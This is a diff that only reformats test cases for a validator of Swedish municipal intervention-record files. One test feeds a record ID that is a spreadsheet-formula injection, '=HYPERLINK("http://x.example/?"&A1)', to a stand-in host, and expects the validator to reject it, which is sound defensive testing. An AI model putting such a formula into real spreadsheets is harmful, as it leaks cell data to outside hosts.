@@ -220,7 +220,8 @@ def cases() -> list[Case]:
              accepted=0, quarantine=((2, "start_date", re.escape(IDENTITY.format("Startdatum"))),)),
         Case("number_in_end_date", {"insatser_1.csv": delimited([row(1, Slutdatum=DRAW.number("10+")), row(2)])},
              accepted=1, quarantine=((2, "end_date", re.escape(IDENTITY.format("Slutdatum"))),)),
-        Case("spaced_number_in_record_id", {"insatser_1.csv": delimited([row(1, **{"Ärende-ID": DRAW.number("10 - ")})])},
+        Case("spaced_number_in_record_id",
+             {"insatser_1.csv": delimited([row(1, **{"Ärende-ID": DRAW.number("10 - ")})])},
              accepted=0, quarantine=((2, "record_id", re.escape(IDENTITY.format("Ärende-ID"))),)),
         Case("numbers_in_every_column", {"insatser_1.csv": delimited([row(1), row(2), everything_numbers])},
              accepted=2, quarantine=((4, "record_id, insats_code, start_date, end_date, extent_pct, consent",
@@ -228,7 +229,8 @@ def cases() -> list[Case]:
         Case("free_text_in_every_column", {"insatser_1.csv": delimited([row(1), everything_text])},
              accepted=1, quarantine=((3, "personnummer, record_id, insats_code, start_date, end_date, extent_pct, "
                                          "consent",
-                                      rf"personnummer: [^;]+; record id is free text, not an id or a name: never stored; "
+                                      rf"personnummer: [^;]+; "
+                                      rf"record id is free text, not an id or a name: never stored; "
                                       rf"unknown intervention code {FREE}: not mapped in the sources file; "
                                       rf"start date {FREE} is not a date in the form YYYY-MM-DD; "
                                       rf"end date {FREE} is not a date in the form YYYY-MM-DD; "
@@ -236,9 +238,10 @@ def cases() -> list[Case]:
                                       rf"unknown consent value {FREE}: not mapped in the sources file"),)),  # fmt: skip
         Case("free_text_record_id", {"insatser_1.csv": delimited([row(1, **{"Ärende-ID": DRAW.text()}), row(2)])},
              accepted=1, quarantine=((2, "record_id", "record id is free text, not an id or a name: never stored"),)),
-        Case("formula_record_id", {"insatser_1.csv": delimited([row(1), row(2, **{"Ärende-ID": '=HYPERLINK("http://x.example/?"&A1)'})])},
-             accepted=1, quarantine=((3, "record_id",
-                                      re.escape("record id starts like a spreadsheet formula (=, +, - or @): never stored")),)),
+        Case("formula_record_id",
+             {"insatser_1.csv": delimited([row(1), row(2, **{"Ärende-ID": '=HYPERLINK("http://x.example/?"&A1)'})])},
+             accepted=1, quarantine=((3, "record_id", re.escape(
+                 "record id starts like a spreadsheet formula (=, +, - or @): never stored")),)),
         Case("free_text_code_and_date", {"insatser_1.csv": delimited([row(1, Insats=DRAW.text()),
                                                                       row(2, Startdatum=DRAW.text()), row(3)])},
              accepted=1, quarantine=(
@@ -262,8 +265,10 @@ def cases() -> list[Case]:
                  (2, "extent_pct", re.escape("extent 140 % is outside the range above 0 up to 100 %")),
                  (3, "extent_pct", r"extent [0-9]{18} % is outside the range above 0 up to 100 %"))),
         Case("duplicate_record_id", {"insatser_1.csv": delimited([row(1), row(1, Insats="SYV")])},
-             accepted=1, quarantine=((3, "record_id", "record id 'C-00001' already at line 2 with different content"),)),
-        Case("xlsx_number_cells", {"insatser_1.xlsx": workbook([row(1), row(2, **{"Omfattning (%)": int(DRAW.number("10"))})])},
+             accepted=1,
+             quarantine=((3, "record_id", "record id 'C-00001' already at line 2 with different content"),)),
+        Case("xlsx_number_cells",
+             {"insatser_1.xlsx": workbook([row(1), row(2, **{"Omfattning (%)": int(DRAW.number("10"))})])},
              source=xlsx, accepted=1, quarantine=((3, "extent_pct", re.escape(IDENTITY.format("Omfattning (%)"))),)),
         Case("xlsx_repeated_header", {"insatser_1.xlsx": workbook(good(1) + [HEADER] + good(1, 2))}, source=xlsx,
              accepted=2, quarantine=((3, "(row)", re.escape("the header line again, inside the file: skipped")),)),
@@ -321,7 +326,8 @@ def source_entry(case: Case, kommunkod: str) -> dict:
         entry = {"id": f"c_{case.id}", "kind": "af", "files": "anvisningar_*.csv", "format": "csv",
                  "encoding": "utf-8", "delimiter": ";", "columns": AF_COLUMNS,
                  "codes": {"programme_code": {"Kundval Rusta och matcha": "KROM"},
-                           "status": {"Pågående": "ongoing", "Avslutad": "ended"}, "consent": {"Ja": True, "Nej": False}},
+                           "status": {"Pågående": "ongoing", "Avslutad": "ended"},
+                           "consent": {"Ja": True, "Nej": False}},
                  "max_quarantine_share": 1.0}  # fmt: skip
     else:
         entry = {"id": f"c_{case.id}", "kind": "municipal", "kommunkod": kommunkod, "files": "insatser_*.csv",
